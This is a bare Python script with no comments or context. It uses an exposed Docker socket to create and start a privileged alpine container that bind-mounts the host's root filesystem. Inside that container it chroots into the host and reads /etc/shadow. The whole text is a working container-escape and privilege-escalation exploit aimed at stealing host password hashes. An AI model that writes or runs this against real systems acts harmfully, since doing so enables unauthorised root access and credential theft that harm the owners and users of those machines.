import http.client
import json
import socket

class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")

c = Unix("localhost")
spec = {"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "cat /etc/shadow"],
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}
c.request("POST", "/containers/create", json.dumps(spec), {"Content-Type": "application/json"})
cid = json.load(c.getresponse())["Id"]
c.request("POST", f"/containers/{cid}/start")
